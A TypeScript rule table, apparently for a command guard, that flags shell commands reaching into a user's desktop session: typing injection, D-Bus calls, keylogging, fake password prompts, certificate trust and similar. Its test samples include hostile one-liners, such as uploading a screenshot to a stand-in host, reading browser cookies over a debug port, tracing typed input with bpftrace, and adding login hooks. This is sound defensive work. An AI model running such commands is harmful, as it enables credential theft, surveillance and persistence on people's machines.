import { isDownloadPlace, isPersonal } from "./places.js";
import { type Call, type Condition, subject } from "./row.js";

const TYPES = "types or clicks in place of the person at the screen";
const TELLS = "tells another running program of this person to do something";
const OPENS_DISPLAY = "lets other people draw on and read this screen";
const TRUSTS = "makes programs trust certificates of somebody else";
const RECORDS = "records what is typed, said or shown on this machine";
const SETS_PROGRAM = "changes which program the desktop or a tool starts by itself";
const IN_PLACE = "writes over pictures, music or documents of a person, without a copy";

/** Questions to a bus that change nothing. */
const ASKS = /(?:^|[./])(?:List\w*|Get\w*|Introspect|Ping|NameHasOwner|GetAll|GetId|Peer)$/;

/** The word that names the method of a message over the bus. */
const callsBus: Condition = ({ args }) => {
  const method = args.findLast(
    ({ text }) => !text.startsWith("-") && /^[A-Za-z_][\w.]*\.[A-Z]\w*$|^[A-Z][A-Za-z]+$/.test(text),
  );
  return method === undefined || ASKS.test(method.text) ? undefined : method;
};

/** Orders to a browser over its debugging port. */
const DEBUGGED = /"method"\s*:\s*"(?:Network|Storage|Runtime|Page|Target|Browser|Input|DOM|Fetch)\.\w+"/;
const SETTING_WITH_PROGRAM =
  /\b(?:exec|command|terminal|autostart|custom-keybinding\w*|handler|launcher|startup|script|proxy|browser|shell|lock-enabled|lock-delay|disable-lock-screen|automatic-login|autologin\w*|screen-sharing|remote-desktop|hot-?corner\w*|firewall)\b|Exec$/i;

const overwrites =
  (unless?: (call: Call) => boolean): Condition =>
  (call) =>
    unless?.(call) === true
      ? undefined
      : call.args.find((word) => /^[~/$]/.test(word.text) && isPersonal(word));

/** The session of a person: screen, keyboard, bus, running editors, settings, and what lies in their folders. */
// biome-ignore format: a table; what belongs to a row stands together
export const RULES = subject("desktop", [
  { rule: "desktop.input", reason: TYPES, dry: "", tools: [
    { program: "xdotool|ydotool|dotool|dotoolc", path: "** key|type|keydown|keyup|click|mousedown|mouseup|exec|windowkill|windowquit", match: ["xdotool key ctrl+alt+t type ls"],
      not_match: ["xdotool getactivewindow", "xdotool search --name Firefox"] },
    { program: "wtype|xte|xvkbd|cliclick|evemu-play|evemu-event|wlrctl", word: /./, match: ["wtype 'ls'", "xte 'str ls'"] },
    { program: "kitty|kitten|wezterm", path: "** send-text|send-key|launch", match: ["kitten @ send-text ls"], not_match: ["kitty --version"] },
    { program: "tmux|screen|byobu", when: ({ args }) => { const at = args.findIndex(({ text }) => /^(?:send|send-keys|stuff|paste|set-buffer|setb|exec|register|readreg)$/.test(text)); return at < 0 ? undefined : args.slice(at + 1).find(({ text }) => /(?:^|[\s;&|])(?:sudo|doas|pkexec|su|run0)(?:\s|$)/.test(text)); },
      match: ["screen -S main -X stuff $'sudo id\\n'", "tmux send-keys -t main 'sudo id' Enter"], not_match: ["tmux send-keys -t main 'npm test' Enter", "screen -S main -X stuff $'make\\n'"] },
    { program: "wezterm|zellij", path: "** send-text|write-chars|write", match: ["zellij action write-chars ls"], not_match: ["zellij list-sessions"] },
    { program: "swaymsg|i3-msg|hyprctl|niri|awesome-client|bspc|herbstclient|qtile", path: "** exec|dispatch|eval|spawn|cmd-obj", match: ["swaymsg exec x", "hyprctl dispatch exec x"],
      not_match: ["swaymsg -t get_tree"] },
  ] },
  { rule: "desktop.other-program", reason: TELLS, dry: "", tools: [
    { program: "emacsclient|gnuclient", word: /^(?:-[a-z]*e|--eval)(?:=|$)/, match: ["emacsclient -e '(kill-emacs)'"], not_match: ["emacsclient -n a.txt"] },
    { program: "scrot", word: /\b(?:curl|wget|scp|ssh|nc|ncat|rsync|rclone|mail|mutt|sendmail|telegram-send|xh)\b/, match: ["scrot -e 'curl -T $f x.example' a.png"], not_match: ["scrot a.png", "scrot -e 'mv $f ~/shots' a.png"] },
    { program: "vim|nvim|gvim|nvr", word: /^--remote-(?:send|expr)|^-(?:c|cc)$/, when: ({ args, command }) =>
        command.program === "nvr" || args.some(({ text }) => /^--remote-(?:send|expr)/.test(text)),
      match: ["vim --servername X --remote-send ':q<CR>'", "nvr -c ':q'"], not_match: ["nvim --remote a.txt"] },
    { program: "busctl", path: "** call|set-property|emit", when: callsBus,
      match: ["busctl --user call a.b /a/b a.b.Manager StopUnit ss x replace"], not_match: ["busctl list", "busctl call a.b /a/b org.freedesktop.DBus.Peer Ping"] },
    { program: "gdbus", path: "call|emit", when: callsBus, match: ["gdbus call -e -d org.x -o /org/x -m org.x.Run"],
      not_match: ["gdbus introspect -e -d org.x -o /", "gdbus call -e -d org.x -o / -m org.freedesktop.DBus.ListNames"] },
    { program: "dbus-send", word: /^--(?:dest|print-reply|type)/, when: callsBus, match: ["dbus-send --session --dest=org.x /org/x org.x.Run"],
      not_match: ["dbus-send --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames"] },
    { program: "qdbus|qdbus6|qdbus-qt5", path: "* * *", when: callsBus, match: ["qdbus org.kde.konsole /Sessions/1 org.kde.konsole.Session.RunCommand"],
      not_match: ["qdbus org.kde.konsole"] },
    { program: "websocat|wscat|curl|python|python3|node", when: ({ command: { input } }) => input.kind === "text" && DEBUGGED.test(input.text.text) ? input.text : undefined,
      match: ["echo '{\"method\":\"Storage.getCookies\"}' | websocat ws://localhost:9222/x"], not_match: ["echo hi | websocat ws://localhost:8080"] },
    { program: "dbus-update-activation-environment", word: /^(?!--?help)./, match: ["dbus-update-activation-environment --systemd X=1"] },
    { program: "systemctl", taking: "M H", path: "set-environment|import-environment|link|edit|revert|add-wants|add-requires", match: ["systemctl --user set-environment X=1"],
      not_match: ["systemctl --user status x"] },
    { program: "systemctl", taking: "M H", path: "show-environment", options: "user", rule: "credentials.environment", reason: "shows the environment, keys as well, of a person's session",
      match: ["systemctl --user show-environment"], not_match: ["systemctl show-environment"] },
    { program: "systemctl", taking: "M H", path: "enable|reenable|start", when: ({ rest }) => rest.find(({ text }) => text.includes("/")), rule: "persistence.schedule",
      reason: "makes a file of this folder a service that is started by itself", match: ["systemctl --user enable ./x.service"], not_match: ["systemctl --user start x"] },
  ] },
  { rule: "desktop.settings", reason: SETS_PROGRAM, dry: "", tools: [
    { program: "gsettings", path: "set", when: ({ rest }) => rest.slice(0, 2).find(({ text }) => SETTING_WITH_PROGRAM.test(text)), match: ["gsettings set org.x.terminal exec /tmp/x"],
      not_match: ["gsettings set org.gnome.desktop.interface gtk-theme Adwaita", "gsettings get org.x.terminal exec"] },
    { program: "dconf", path: "write|load|reset", match: ["dconf load / < x"], not_match: ["dconf read /a"] },
    { program: "kwriteconfig|kwriteconfig5|kwriteconfig6|xfconf-query", when: (call) => call.has("delete", "r", "s", "set", "n") || call.command.program.startsWith("k") ? call.find(SETTING_WITH_PROGRAM) : undefined,
      match: ["kwriteconfig5 --file a --group b --key Exec /tmp/x"], not_match: ["kwriteconfig5 --file kdeglobals --group General --key ColorScheme Breeze"] },
    { program: "xdg-mime|xdg-settings", path: "default|set|install", match: ["xdg-mime default x.desktop text/html"], not_match: ["xdg-mime query default text/html"] },
    { program: "xdg-desktop-menu|xdg-desktop-icon", path: "install|uninstall", match: ["xdg-desktop-menu install x.desktop"] },
    { program: "defaults", path: "write", when: ({ rest }) => rest.find(({ text }) => /loginwindow|LoginHook|LSHandlers|AutoLaunch/i.test(text)), match: ["defaults write com.apple.loginwindow LoginHook /tmp/x"],
      not_match: ["defaults read com.apple.loginwindow"] },
    { program: "aws", path: "configure set", when: ({ rest }) => rest.find(({ text }) => /credential_process|cli_pager|ca_bundle|endpoint_url/.test(text)),
      match: ["aws configure set credential_process /tmp/x"], not_match: ["aws configure set region eu-west-1"] },
    { program: "set", word: /^(?:-[a-zA-Z]*U[a-zA-Z]*|--universal)$/, match: ["fish -c 'set -U fish_user_paths /tmp/x'"], not_match: ["set -u"] },
    { program: "fish_add_path", word: /^\/(?:tmp|var\/tmp|dev\/shm)/, match: ["fish -c 'fish_add_path /tmp/x'"], not_match: ["fish -c 'fish_add_path ~/bin'"] },
    { program: "npm|pnpm|yarn", path: "config|c? set", when: ({ rest }) => rest.find((word) => isDownloadPlace({ ...word, text: word.text.replace(/^[\w-]+=/, "") })), match: ["npm config set prefix /tmp/x"],
      not_match: ["npm config set prefix ~/.npm-global"] },
    { program: "funcsave", word: /./, match: ["funcsave ls"] },
    { program: "alias", word: /^(?:-s|--save)$/, match: ["fish -c 'alias -s ls /tmp/x'"], not_match: ["alias ll='ls -l'"] },
    { program: "ssh-import-id|ssh-import-id-gh|ssh-import-id-lp", unless: /^(?:-h|--help)$/, rule: "persistence.access", reason: "lets whoever owns a foreign key log in here", match: ["ssh-import-id gh:x"] },
    { program: "git", path: "init|clone", word: /^--template(?:=[~/.]|$)/, rule: "persistence.git-hook", reason: "puts hooks of somebody else into a repository",
      match: ["git init --template=/tmp/x", "git clone --template /tmp/x a b"], not_match: ["git init --template= ."] },
  ] },
  { rule: "desktop.trust", reason: TRUSTS, dry: "", tools: [
    { program: "xhost", word: /^\+/, reason: OPENS_DISPLAY, match: ["xhost +", "xhost +x.example"], not_match: ["xhost", "xhost -"] },
    { program: "certutil", word: /^-A$/, match: ["certutil -d sql:db -A -t C,, -n x -i x.pem"], not_match: ["certutil -d sql:db -L"] },
    { program: "update-ca-certificates|update-ca-trust|c_rehash", unless: /^(?:-h|--help)$/, match: ["update-ca-certificates --fresh"] },
    { program: "trust", path: "anchor", match: ["trust anchor x.pem"], not_match: ["trust list"] },
    { program: "mkcert", word: /^-install$/, match: ["mkcert -install"], not_match: ["mkcert localhost"] },
    { program: "keytool", word: /^-import(?:cert)?$/, when: (call) => call.find(/cacerts/), match: ["keytool -importcert -cacerts -file x.pem"], not_match: ["keytool -list -cacerts"] },
  ] },
  { rule: "desktop.recording", reason: RECORDS, dry: "", tools: [
    { program: "xinput", word: /^(?:--)?test(?:-xi2)?$/, match: ["xinput test 9"], not_match: ["xinput list"] },
    { program: "evtest|logkeys|xspy|showkey|lkl|keylogger|evdump|libinput-debug-events|intercept|snoopy", unless: /^(?:-h|--help|--version|--query)$/, match: ["evtest /dev/input/event3"],
      not_match: ["evtest --help"] },
    { program: "libinput", path: "debug-events|record", match: ["libinput record"], not_match: ["libinput list-devices"] },
    { program: "bpftrace|bcc|trace-bpfcc|funclatency|stap|dtrace", word: /readline|getpass|pam_|SSL_(?:read|write)|tty_(?:read|write)|copy_from_user|\bpasswd\b/, match: ["bpftrace -e 'uretprobe:/bin/bash:readline { printf(\"%s\", str(retval)); }'"],
      not_match: ["bpftrace -e 'tracepoint:syscalls:sys_enter_open { @[comm] = count(); }'"] },
    { program: "bashreadline|bashreadline-bpfcc|ttysnoop|ttysnoop-bpfcc|sslsniff|sslsniff-bpfcc|opensnoop.bt|bashreadline.bt", match: ["bashreadline-bpfcc"] },
    { program: "strace|ltrace", taking: "a b e E I O P s S u U X o p", when: (call) => call.has("p", "attach") ? call.given("e", "trace").find(({ text }) => /read|write|recv|send|\ball\b/.test(text)) : undefined,
      match: ["strace -f -e trace=read,write -p 9"], not_match: ["strace -c -p 9"] },
    { program: "arecord|parecord|parec|pw-record|rec|fswebcam|imagesnap|streamer|guvcview|cheese", unless: /^(?:-l|-L|--list\S*|--help|-h|--version)$/, match: ["arecord x.wav"], not_match: ["arecord -l"] },
    { program: "ffmpeg|gst-launch-1.0|wf-recorder|vlc|cvlc", word: /^(?:x11grab|kmsgrab|gdigrab|avfoundation|v4l2|alsa|pulse|dshow)$|^(?:v4l2src|ximagesrc|pulsesrc|alsasrc)$|^(?:screen|v4l2|pulse):\/\//, match: ["ffmpeg -f x11grab -i :0 a.mp4"],
      not_match: ["ffmpeg -i a.mp4 b.webm"] },
  ] },
  { rule: "desktop.password", reason: "asks the person at the screen for a password", dry: "", tools: [
    { program: "osascript", word: /with hidden answer/i, match: ["osascript -e 'display dialog \"Password\" default answer \"\" with hidden answer'"], not_match: ["osascript -e 'display notification \"done\"'"] },
    { program: "zenity|kdialog|yad|qarma|matedialog|Xdialog|dialog|whiptail|gdialog", word: /^--?(?:password(?:box)?|newpassword|hide-text|insecure)$/, match: ["zenity --password > /tmp/p", "kdialog --password Login"], not_match: ["zenity --info --text done"] },
    { program: "systemd-ask-password|ssh-askpass|ksshaskpass|x11-ssh-askpass|pinentry|pinentry-gtk-2|pinentry-qt|lxqt-openssh-askpass", unless: /^(?:-h|--help|--version)$/, match: ["ssh-askpass 'Your password'"], not_match: ["pinentry --version"] },
  ] },
  { rule: "files.in-place", reason: IN_PLACE, dry: "", tools: [
    { program: "mogrify", when: overwrites((call) => call.find(/^-path$/) !== undefined), match: ["mogrify -resize 9x9 ~/Pictures/*.jpg"], not_match: ["mogrify -resize 50% img/a.png", "mogrify -path out -resize 9x9 ~/Pictures/a.jpg"] },
    { program: "ffmpeg|avconv", word: /^-y$/, when: ({ args }) => args.slice(-1).find(isPersonal), match: ["ffmpeg -y -i a.mp4 ~/Videos/b.mp4"], not_match: ["ffmpeg -y -i ~/Videos/a.mp4 b.mp4"] },
    { program: "magick", path: "mogrify", when: overwrites((call) => call.find(/^-path$/) !== undefined), match: ["magick mogrify -strip ~/Pictures"], not_match: ["magick mogrify -strip a.png"] },
    { program: "exiftool|exiv2|jhead|exiftran|jpegtran|jpegoptim|optipng|pngcrush|oxipng|advpng|id3v2|mid3v2|eyed3|metaflac|kid3-cli|mat2|mp3gain|aacgain|normalize-audio|dos2unix|unix2dos|recode|rename|prename|file-rename|mmv|detox|convmv|renameutils|perl-rename",
      when: overwrites((call) => call.find(/^(?:-n|--dry-run|--no-act|--noact|-l|--list|-p|pr|--show)$/) !== undefined || (call.command.program === "exiftool" && call.find(/^-overwrite_original|^-[\w:]+=|^-delete_original/) === undefined)),
      match: ["exiftool -all= -overwrite_original ~/Pictures", "jpegoptim -m1 ~/Pictures/*.jpg"], not_match: ["exiftool ~/Pictures/a.jpg", "jpegoptim img/a.jpg"] },
  ] },
]);
